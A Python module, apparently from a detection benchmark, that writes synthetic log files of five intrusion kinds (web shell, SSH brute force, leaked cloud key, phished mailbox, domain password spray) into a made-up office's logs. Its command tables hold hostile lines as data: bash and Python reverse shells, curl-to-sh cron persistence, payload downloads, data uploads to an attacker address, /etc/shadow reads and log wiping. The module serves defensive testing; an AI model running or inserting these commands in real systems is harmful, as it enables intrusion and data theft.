"""Intrusions into the made-up office that begin elsewhere than at a desk, in files of their own.

Five kinds, written from public accounts of such intrusions: a web server with an upload form, a
guessed password at sshd, a leaked key of the cloud, a phished mailbox, and a domain whose
passwords are sprayed. Which steps are taken, when and with which commands is drawn, so that some
are thorough and some are hardly more than one deed. Nothing is run: these are the records they leave.
"""

import json
import random
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, Final

from bench.benign import aws, linux, tenant, windows
from bench.benign import events as made
from bench.benign.events import Log, sid
from bench.benign.scene import DC, DOMAIN, LINUX, PEOPLE, START

File = tuple[str, str]

FOLDER: Final = "elsewhere"
"""Every file of an intrusion lies in it, and nothing else does."""
_DAYS: Final = 7
_TAKEN: Final = 0.7
"""How likely each step is taken."""
_WEB, _DB, _BASTION = LINUX
_FROM: Final = "203.0.113.{}"


def write(folder: Path, kind: str, seed: int) -> None:
    """Add an intrusion of a kind (`KINDS`) to an office's logs; the same seed gives the same bytes."""
    draw = random.Random(f"{kind}:{seed}")
    day = draw.randrange(2, _DAYS - 2)
    begin = START + timedelta(days=day, hours=draw.uniform(0.5, 20))
    for name, text in KINDS[kind](draw, begin):
        path = folder / FOLDER / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def _chosen(draw: random.Random, steps: list[Any]) -> list[Any]:
    """The first step and some of the others, in order."""
    return [step for number, step in enumerate(steps) if not number or draw.random() < _TAKEN]


def _clock(draw: random.Random, begin: datetime, longest: float) -> Iterator[datetime]:
    """Times one after another, at most so many seconds apart."""
    while True:
        yield begin
        begin += timedelta(seconds=draw.uniform(2, longest))


_SHELL: Final = (
    (("id",), ("whoami",), ("uname", "-a")),
    (("cat", "/etc/passwd"), ("ls", "-la", "/home"), ("ps", "aux"), ("ss", "-tlnp")),
    (("find", "/", "-perm", "-4000", "-type", "f"), ("sudo", "-l")),
    (("bash", "-c", "bash -i >& /dev/tcp/{ip}/4444 0>&1"),
     ("python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('{ip}',9001));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")),
    (("wget", "-q", "http://{ip}/l.sh", "-O", "/tmp/.l.sh"), ("curl", "-s", "http://{ip}/k", "-o", "/dev/shm/k")),
    (("chmod", "+x", "/dev/shm/k"), ("/dev/shm/k",)),
    (("bash", "-c", "echo '*/5 * * * * root curl -s http://{ip}/l.sh|sh' >> /etc/cron.d/php"),),
    (("/tmp/.x/xmrig", "-o", "stratum+tcp://pool.{ip}.example:3333", "-u", "44AFx"),),
    (("mysqldump", "--all-databases"), ("tar", "czf", "/tmp/.d.tgz", "/var/www")),
    (("curl", "-T", "/tmp/.d.tgz", "https://{ip}/u"),),
    (("rm", "-f", "/var/log/nginx/access.log"), ("bash", "-c", "history -c; unset HISTFILE")),
)  # fmt: skip


def _web(draw: random.Random, begin: datetime) -> Iterator[File]:
    """Scans, an upload, a web shell, commands as www-data, persistence, mining or theft."""
    ip, agent = (
        _FROM.format(draw.randrange(130, 250)),
        "Mozilla/5.0 (X11; Linux x86_64) Chrome/122.0",
    )
    page = f"/uploads/{draw.getrandbits(24):06x}.php"
    asked = [
        ("GET", f"/search?q=1%27+UNION+SELECT+{n},user(),version()--+-", 200) for n in range(3)
    ]
    asked += [("POST", "/admin/upload.php", 200), ("GET", page, 200)]
    asked += [("GET", f"{page}?cmd={word}", 200) for word in ("id", "uname+-a", "cat+/etc/passwd")]
    clock = _clock(draw, begin, 90)
    lines = [
        linux.request(draw, when, ip, method, path, status, agent)
        for (method, path, status), when in zip(asked, clock, strict=False)
        if draw.random() < 0.9
    ]
    yield "web01/access.log", linux.joined(iter(lines))
    yield "web01/audit.log", linux.joined(_commands(draw, begin + timedelta(minutes=9), ip, 33))


def _commands(draw: random.Random, begin: datetime, ip: str, uid: int) -> Iterator[linux.Line]:
    """What is typed into a shell, step by step, as auditd tells it; by a service account's `uid`."""
    serial, clock = draw.randrange(10_000, 90_000), _clock(draw, begin, 400)
    for step in _chosen(draw, list(_SHELL)):
        for words in _chosen(draw, list(step)):
            serial += 1
            said = [word.format(ip=ip) for word in words]
            exe = said[0] if said[0].startswith("/") else f"/usr/bin/{said[0]}"
            yield linux.executed(
                draw, next(clock), exe, said, serial=serial, auid=4294967295, uid=uid
            )


def _ssh(draw: random.Random, begin: datetime) -> Iterator[File]:
    """Guesses until one is right, then sudo, a new account, keys, and data that leaves."""
    ip, user = _FROM.format(draw.randrange(130, 250)), draw.choice(("deploy", "root", "backup"))
    clock, lines = _clock(draw, begin, 4), []
    for _ in range(draw.randrange(20, 300)):
        name = draw.choice((user, "root", "invalid user admin", "invalid user test"))
        port = draw.randrange(30_000, 65_000)
        text = f"Failed password for {name} from {ip} port {port} ssh2"
        lines.append(linux.said(_BASTION, draw, next(clock), "sshd", text))
    when = next(clock)
    text = f"Accepted password for {user} from {ip} port 50122 ssh2"
    lines.append(linux.said(_BASTION, draw, when, "sshd", text))
    later = _clock(draw, when, 500)
    deeds = (
        "/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -o -u 0 -M sysadm", "/usr/bin/passwd sysadm",
        "/usr/bin/tee -a /root/.ssh/authorized_keys", "/usr/bin/systemctl stop auditd",
        f"/usr/bin/wget http://{ip}/a -O /tmp/.a", "/usr/bin/chmod 4755 /tmp/.a",
        f"/usr/bin/rsync -a /srv/data {ip}::in", "/usr/bin/shred -u /var/log/auth.log",
    )  # fmt: skip
    for command in _chosen(draw, list(deeds)):
        text = f"{user:>8} : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND={command}"
        lines.append(linux.said(_BASTION, draw, next(later), "sudo", text))
    if draw.random() < _TAKEN:
        text = "Accepted publickey for root from 10.30.2.10 port 40022 ssh2: RSA SHA256:x"
        yield (
            "db01/auth.log",
            linux.joined(iter([linux.said(_DB, draw, next(later), "sshd", text)])),
        )
        yield "db01/audit.log", linux.joined(_commands(draw, next(later), ip, 0))
    yield "bastion/auth.log", linux.joined(iter(lines))


def _cloud(draw: random.Random, begin: datetime) -> Iterator[File]:
    """A leaked access key: who am I, what is there, a user that stays, data, the trail."""
    ip, agent = (
        _FROM.format(draw.randrange(130, 250)),
        "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali3",
    )
    user = draw.choice(("marco", "backup-svc", "ci-legacy"))
    identity = {
        "type": "IAMUser", "principalId": "AIDAEXAMPLELEAK", "userName": user,
        "arn": f"arn:aws:iam::{aws.ACCOUNT}:user/{user}", "accountId": aws.ACCOUNT,
        "accessKeyId": f"AKIA{draw.getrandbits(64):016X}",
    }  # fmt: skip
    share = {"createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}}
    admin = "arn:aws:iam::aws:policy/AdministratorAccess"
    steps: list[list[tuple[str, str, dict[str, Any]]]] = [
        [("sts", "GetCallerIdentity", {})],
        [("iam", call, {}) for call in ("ListUsers", "ListRoles", "GetAccountAuthorizationDetails")],
        [("s3", "ListBuckets", {}), ("ec2", "DescribeInstances", {}), ("ec2", "DescribeSnapshots", {})],
        [("secretsmanager", "ListSecrets", {}),
         *(("secretsmanager", "GetSecretValue", {"secretId": f"prod/{n}"}) for n in range(12))],
        [("iam", "CreateUser", {"userName": "support-tmp"}),
         ("iam", "AttachUserPolicy", {"userName": "support-tmp", "policyArn": admin}),
         ("iam", "CreateAccessKey", {"userName": "support-tmp"})],
        [("iam", "UpdateAssumeRolePolicy", {"roleName": "ci-deploy",
          "policyDocument": '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999988887777:root"},"Action":"sts:AssumeRole"}]}'})],
        [("ec2", "ModifySnapshotAttribute", {"snapshotId": "snap-1", "attributeType": "CREATE_VOLUME_PERMISSION", **share})],
        [("s3", "PutBucketPolicy", {"bucketName": "corp-data", "bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:*"}]}})],
        [("ec2", "RunInstances", {"instanceType": "p3.16xlarge", "minCount": 8, "maxCount": 8})],
        [("cloudtrail", "StopLogging", {"name": "main"}), ("guardduty", "DeleteDetector", {"detectorId": "12ab"})],
    ]  # fmt: skip
    clock = _clock(draw, begin, 120)
    events = [
        aws.event(draw, next(clock), identity, ip, agent, service, call, asked)
        for step in _chosen(draw, steps)
        for service, call, asked in step
    ]
    yield "cloudtrail.json", json.dumps({"Records": events})


def _mailbox(draw: random.Random, begin: datetime) -> Iterator[File]:
    """A phished account: a sign-in from afar, a factor or an app that stays, rules, files."""
    user = draw.choice(PEOPLE[:4])
    ip = _FROM.format(draw.randrange(130, 250))
    place = (draw.choice(("NG", "RU", "VN")), "-", ip)
    clock = _clock(draw, begin, 300)
    codes = [50126] * draw.randrange(0, 4) + [50074, 0, 0]
    signins = [
        tenant.signin(draw, next(clock), user, "OfficeHome", place, code)
        | {"riskLevelDuringSignIn": draw.choice(("none", "medium")), "userAgent": "axios/1.6.8"}
        for code in codes
    ]
    yield "signins.json", json.dumps({"value": signins})
    rule = [("Name", "."), ("SubjectOrBodyContainsWords", "invoice;payment;password"),
            ("MoveToFolder", "RSS Subscriptions"), ("MarkAsRead", "True")]  # fmt: skip
    onward = [("Name", ".."), ("ForwardTo", "x9@mailbox.example"), ("DeleteMessage", "True")]
    steps: list[list[tuple[str, int, str, dict[str, Any]]]] = [
        [("AzureActiveDirectory", 15, "UserLoggedIn", {})],
        [("Exchange", 1, "New-InboxRule", _given(rule))],
        [("Exchange", 1, "New-InboxRule", _given(onward))],
        [("Exchange", 1, "Set-Mailbox", _given([("Identity", user), ("ForwardingSmtpAddress", "smtp:x9@mailbox.example")]))],
        [("AzureActiveDirectory", 8, "Consent to application.", {"ObjectId": "Mail Reader Pro", "ModifiedProperties": [
            {"Name": "ConsentContext.IsAdminConsent", "NewValue": "False", "OldValue": ""},
            {"Name": "ConsentAction.Permissions", "NewValue": "Scope: Mail.Read offline_access", "OldValue": ""}]})],
        [("SharePoint", 6, "FileDownloaded", {"ObjectId": f"https://corp.sharepoint.com/sites/finance/{n}.xlsx"}) for n in range(160)],
    ]  # fmt: skip
    rows = [
        tenant.deed(draw, next(clock), user, workload, kind, name) | more | {"ClientIP": ip}
        for step in _chosen(draw, steps)
        for workload, kind, name, more in step
    ]
    yield "audit.json", "".join(json.dumps(row) + "\n" for row in rows)


def _given(pairs: list[tuple[str, str]]) -> dict[str, Any]:
    return {"Parameters": [{"Name": name, "Value": value} for name, value in pairs]}


def _domain(draw: random.Random, begin: datetime) -> Iterator[File]:
    """Sprayed passwords, roasted tickets, a new administrator, replication, the log gone."""
    ip, log, clock = f"10.30.1.{draw.randrange(60, 90)}", Log(DC, draw), _clock(draw, begin, 45)
    for name in (*PEOPLE, *(f"user{n:02}" for n in range(draw.randrange(8, 40)))):
        windows.failed(log, next(clock), name, 3, ip)
    windows.logon(log, next(clock), "karim", 3, ip)
    whom = {"SubjectUserSid": sid("karim"), "SubjectUserName": "karim", "SubjectDomainName": DOMAIN,
            "SubjectLogonId": log.number(0x500000, 0x5FFFFF)}  # fmt: skip

    def roasts() -> None:
        for service in ("svc_sql", "svc_web", "svc_backup", "svc_print", "svc_crm"):
            log.add(next(clock), made.SECURITY, 4769, TargetUserName=f"karim@{DOMAIN}", TargetDomainName=DOMAIN,
                    ServiceName=service, ServiceSid=sid(service), TicketOptions="0x40810000",
                    TicketEncryptionType="0x17", IpAddress=f"::ffff:{ip}", IpPort="50100",
                    Status="0x0", LogonGuid=made.NOBODY, TransmittedServices="-")  # fmt: skip

    def adds() -> None:
        log.add(next(clock), made.SECURITY, 4720, TargetUserName="helpdesk2", TargetDomainName=DOMAIN,
                TargetSid=sid("helpdesk2"), SamAccountName="helpdesk2", **whom)  # fmt: skip
        log.add(next(clock), made.SECURITY, 4728, MemberName="CN=helpdesk2", MemberSid=sid("helpdesk2"),
                TargetUserName="Domain Admins", TargetDomainName=DOMAIN,
                TargetSid="S-1-5-21-1-2-3-512", PrivilegeList="-", **whom)  # fmt: skip

    def replicates() -> None:
        for right in (
            "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2",
            "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2",
        ):
            log.add(next(clock), made.SECURITY, 4662, ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                    ObjectName="%{x}", OperationType="Object Access", HandleId="0x0", AccessList="%%7688\n\t\t\t\t",
                    AccessMask="0x100", Properties=f"%%7688\n\t{{{right}}}", AdditionalInfo="-", **whom)  # fmt: skip

    def clears() -> None:
        log.add(next(clock), ("Microsoft-Windows-Eventlog", "Security"), 1102, **whom)

    for step in _chosen(draw, [roasts, adds, replicates, clears]):
        step()
    yield "DC-A.json", "".join(f"{line}\n" for _, line in sorted(log.lines))


KINDS: Final[dict[str, Callable[[random.Random, datetime], Iterator[File]]]] = {
    "web server": _web,
    "ssh": _ssh,
    "cloud": _cloud,
    "mailbox": _mailbox,
    "domain": _domain,
}
"""Where they begin, and what they leave."""
